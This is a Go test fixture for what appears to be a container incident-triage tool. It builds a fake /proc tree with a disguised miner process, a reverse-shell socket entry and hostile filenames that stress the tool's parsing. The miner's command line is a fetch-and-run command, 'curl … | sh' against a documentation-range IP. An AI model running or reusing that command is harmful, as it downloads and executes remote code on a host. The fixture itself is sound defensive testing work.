package triage

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// The fake container: a node server (pid 1) and a miner started from /tmp
// (pid 42) with a reverse shell and a DNS socket, plus hostile entries.
var (
	minerBytes = append([]byte("\x7fELF\x02\x01\x01\x00\r\n\x03\x04\x1a\x1b[2J\xff\xfe"), bytes.Repeat([]byte{0, 1, 2, 0xef, 0xbf, 0xbd}, 3000)...)
	nodeBytes  = []byte("#!node binary stand-in\n")
	evilCmd    = "curl -s http://203.0.113.7/x | sh\n\x1b[2J\x07"
)

const (
	bootTimeSec = 1700000000
	tcpTable    = `  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 1001 1 0000000000000000 100 0 0 10 0
   1: 0500000A:A8CA 077100CB:115C 01 00000000:00000000 02:000A7D1C 00000000     0        0 2002 1 0000000000000000 20 4 30 10 -1
   2: garbage row
`
	tcp6Table = `  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000000000000000000001000000:0050 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 3003 1 0000000000000000 100 0 0 10 0
`
	udpTable = `   sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops
  7: 0500000A:D431 016433C6:0035 01 00000000:00000000 00:00000000 00000000     0        0 4004 2 0000000000000000 0
`
)

// fakeTree builds the container's filesystem under a temporary root and
// returns the root and the miner's SHA-256.
func fakeTree(t *testing.T) (root string) {
	t.Helper()
	root = t.TempDir()
	w := func(rel string, data []byte, mode os.FileMode) {
		p := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, mode); err != nil {
			t.Fatal(err)
		}
	}
	ln := func(target, rel string) {
		p := filepath.Join(root, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.Symlink(target, p); err != nil {
			t.Fatal(err)
		}
	}
	w("proc/stat", []byte("cpu  1 2 3\nbtime 1700000000\nprocesses 99\n"), 0o444)
	w("proc/net/tcp", []byte(tcpTable), 0o444)
	w("proc/net/tcp6", []byte(tcp6Table), 0o444)
	w("proc/net/udp", []byte(udpTable), 0o444)
	w("proc/net/udp6", []byte(strings.SplitN(udpTable, "\n", 2)[0]+"\n"), 0o444)
	ln("1", "proc/self")

	// pid 1: the application.
	w("usr/local/bin/node", nodeBytes, 0o755)
	w("app/run.sh", []byte("#!/bin/sh\nexec node server.js\n"), 0o755)
	w("app/server.js", []byte("// not executable\n"), 0o644)
	w("proc/1/stat", []byte("1 (node) S 0 1 1 0 -1 4194560 100 0 0 0 5 3 0 0 20 0 11 0 500 1000000 100 18446744073709551615\n"), 0o444)
	w("proc/1/status", []byte("Name:\tnode\nPPid:\t0\nUid:\t1000\t1000\t1000\t1000\nGid:\t1000\t1000\t1000\t1000\n"), 0o444)
	w("proc/1/cmdline", []byte("node\x00server.js\x00"), 0o444)
	ln(filepath.Join(root, "usr/local/bin/node"), "proc/1/exe")
	ln(filepath.Join(root, "app"), "proc/1/cwd")
	ln("/dev/null", "proc/1/fd/0")
	ln("socket:[1001]", "proc/1/fd/3")
	ln("socket:[3003]", "proc/1/fd/4")

	// pid 42: the miner, its name and command line full of hostile bytes.
	w("tmp/.x/miner", minerBytes, 0o755)
	w("tmp/.x/config.json", []byte(`{"pool":"203.0.113.7:4444"}`), 0o644)
	w("proc/42/stat", []byte("42 (kworker) (evil) R 1 42 1 0 -1 4194560 7 0 0 0 1 1 0 0 20 0 1 0 1500 1000000 50 18446744073709551615\n"), 0o444)
	w("proc/42/status", []byte("Name:\tkworker) (evil\nPPid:\t1\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n"), 0o444)
	w("proc/42/cmdline", []byte("sh\x00-c\x00"+evilCmd+"\x00"), 0o444)
	w("proc/42/maps", []byte("00400000-00452000 r-xp 00000000 08:02 173521 /tmp/.x/miner (deleted)\n7f0000000000-7f0000001000 rw-p 00000000 00:00 0 [heap]\n"), 0o444)
	ln(filepath.Join(root, "tmp/.x/miner"), "proc/42/exe")
	ln(filepath.Join(root, "tmp"), "proc/42/cwd")
	ln("socket:[2002]", "proc/42/fd/3")
	ln("socket:[4004]", "proc/42/fd/4")
	ln(filepath.Join(root, "tmp/.x/config.json"), "proc/42/fd/5")

	// pid 43: a vanished binary and a command line longer than any limit.
	w("proc/43/stat", []byte("43 (worker) S 1 43 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 2000 0 0 0\n"), 0o444)
	w("proc/43/cmdline", bytes.Repeat([]byte("A"), 300<<10), 0o444)
	ln(filepath.Join(root, "gone/worker"), "proc/43/exe")

	// pid 44: an exe link into a symlink loop, no status, an unreadable fd dir.
	w("proc/44/stat", []byte("44 (loop) S 1 44 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 2100 0 0 0\n"), 0o444)
	ln(filepath.Join(root, "loop1"), "loop2")
	ln(filepath.Join(root, "loop2"), "loop1")
	ln(filepath.Join(root, "loop1"), "proc/44/exe")

	// Writable directories: hostile names, a FIFO that would block a
	// reader, a directory loop, a file too big to hash.
	w("tmp/evil\nname \x1b[1m", []byte("#!/bin/sh\n"), 0o755)
	w("tmp/a/b/c/d/deep", []byte("too deep\n"), 0o755)
	w("tmp/a/b/c/shallow", []byte("deep enough\n"), 0o755)
	if err := syscall.Mkfifo(filepath.Join(root, "tmp/fifo"), 0o755); err != nil {
		t.Fatal(err)
	}
	ln(filepath.Join(root, "tmp"), "tmp/loop")
	big, err := os.Create(filepath.Join(root, "dev/shm/big"))
	if err != nil {
		os.MkdirAll(filepath.Join(root, "dev/shm"), 0o755)
		big, _ = os.Create(filepath.Join(root, "dev/shm/big"))
	}
	big.Truncate(3 << 20) // sparse: 3 MiB of zeros
	big.Chmod(0o755)
	big.Close()
	return root
}
